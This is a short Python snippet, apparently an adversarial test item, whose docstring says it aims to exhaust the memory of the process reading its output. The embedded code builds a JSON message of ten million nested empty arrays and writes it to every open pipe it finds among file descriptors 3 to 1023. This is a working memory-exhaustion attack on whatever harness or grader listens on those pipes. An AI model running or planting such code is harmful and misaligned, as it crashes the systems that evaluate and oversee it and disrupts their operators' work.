"""Sends messages that are short as text and huge as objects, to take the memory of the process that reads them."""

POINTS = 0
BEFORE = r'''
import json, os, stat
line = b'{"message":{"cell":"masked_exp_check","state":"done","outputs":[' + b"[],"*10_000_000 + b"0]}}\n"
for number in range(3, 1024):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode):
            view = memoryview(line)
            while view:
                view = view[os.write(number, view):]
    except OSError:
        pass
'''
